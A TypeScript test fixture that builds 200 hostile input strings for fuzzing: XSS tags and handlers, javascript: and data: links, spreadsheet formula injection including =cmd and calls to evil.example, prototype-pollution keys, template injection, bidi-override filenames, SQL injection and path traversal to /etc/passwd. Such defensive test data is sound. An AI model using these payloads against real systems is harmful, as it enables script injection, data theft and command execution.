/*
 * Texts that would do harm where they are taken for more than text: markup, scripts, links, formulas, templates, names
 * of a prototype, marks that turn the direction of writing. Each that could run says so by `ran(n)`.
 */

const SCRIPTS = [
  '<script>ran(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<img src=x onerror=ran(1)>', '<img src="x" onerror="ran(1)"/>',
  '<svg onload=ran(1)>', '<svg><script>ran(1)</script></svg>', '<svg><animate onbegin=ran(1) attributeName=x dur=1s>', '<body onload=ran(1)>',
  '<iframe src="javascript:ran(1)"></iframe>', '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>', '<object data="javascript:ran(1)">',
  '<embed src="https://evil.example/x.swf">', '<details open ontoggle=ran(1)>', '<input autofocus onfocus=ran(1)>', '<video><source onerror=ran(1)>',
  '<marquee onstart=ran(1)>', '<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>', '<a href="javascript:ran(1)">clic</a>',
  '<form action="https://evil.example"><button>OK</button></form>', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">', '<base href="https://evil.example/">', '<style>*{display:none}</style>',
  '<template><img src=x onerror=ran(1)></template>', '<noscript><p title="</noscript><img src=x onerror=ran(1)>">', '<!--><script>ran(1)</script>',
  '<![CDATA[<script>ran(1)</script>]]>', '<scr<script>ipt>ran(1)</scr</script>ipt>', '<img src=1 href=1 onerror="ran(1)"></img>', '<x onclick=ran(1)>x',
]
/** What ends the place that a text was put in, before it says the rest. */
const WAYS_OUT = ['">', "'>", '</td>', '</title>', '</textarea>', '`', '*/', '-->', '" onmouseover="ran(1)', "' onfocus='ran(1)' autofocus='", '\\"', '\\u003c']
const LINKS = [
  'javascript:ran(1)', 'JaVaScRiPt:ran(1)', ' javascript:ran(1)', 'java\tscript:ran(1)', 'javascript://example.org/%0Aran(1)', 'vbscript:msgbox(1)',
  'data:text/html,<script>ran(1)</script>', 'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=', 'file:///etc/passwd', 'https://evil.example/?a=1&b=<b>',
  '//evil.example', '\\\\evil.example\\share', 'app://jour-j/../main.js', 'ms-word:ofe|u|https://evil.example', 'mailto:a@evil.example?bcc=b@evil.example',
]
const FORMULAS = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","clic")', '+1+1', '-1+1', '@SUM(A1)', '=1+1', '\t=1+1', '\r=1+1', '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")', "'=1+1", '=A1:A9999', '%0A=1+1', '|calc', '＝1+1',
]
const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'undefined', 'null', 'NaN', 'true', '[object Object]',
  '{"__proto__":{"x":1}}', 'length', 'then', 'toJSON',
]
const TEMPLATES = ['{{x}}', '{{count}}', '$t(frame.saved)', '${ran(1)}', '{{constructor.constructor("ran(1)")()}}', '<%= ran(1) %>', '#{ran(1)}', '%s%n%x', '$&', '$1', '{0}', '&lt;b&gt;', '&amp;', '&#x3C;b&#x3E;']
const DIRECTIONS = [
  '\u202Egpj.exe', 'abc\u202Etxt', '\u2066isolated', '\u2067droite', '\u200Fمرحبا', 'שלום עולם', 'مرحبا بالعالم 123', '\u202Bembed\u202C', '\u061Cabc', 'a\u200Bb', 'a\u200Db', 'a\u00ADb', '\uFEFFbom',
]
const SHAPES = [
  '😀👨‍👩‍👧‍👦🏳️‍🌈', 'Z̸̡͔̈́a̴͙͝l̶̘̈́g̵̰͋ȏ̷̬', 'ﷺ', '𝕱𝖗𝖆𝖐𝖙𝖚𝖗', 'İıſß', 'e\u0301', '\u00E9', 'Œuvre', 'a'.repeat(2_000), 'mot '.repeat(300).trim(), 'sansaucuneespace'.repeat(40),
  "'; DROP TABLE participants; --", '" OR 1=1 --', '../../../../etc/passwd', 'C:\\Windows\\System32', 'CON', 'nul.txt', 'a/b\\c:d*e?f"g<h>i|j', '0', '-0', '1e309', '0x41', '٣٤٥', '½', '…', '—',
]

const BASE = [...SCRIPTS, ...LINKS, ...FORMULAS, ...NAMES, ...TEMPLATES, ...DIRECTIONS, ...SHAPES]
const LED_OUT = WAYS_OUT.flatMap((way, index) => [0, 1, 2, 3, 4, 5].map((turn) => `${way}${SCRIPTS[(index * 6 + turn) % SCRIPTS.length] ?? ''}`))

/** Two hundred different hostile texts, each with its number in place of the one that it would run with. */
export const HOSTILE_STRINGS: readonly string[] = [...new Set([...BASE, ...LED_OUT])]
  .slice(0, 200)
  .map((text, index) => text.replaceAll('ran(1)', `ran(${String(index)})`))
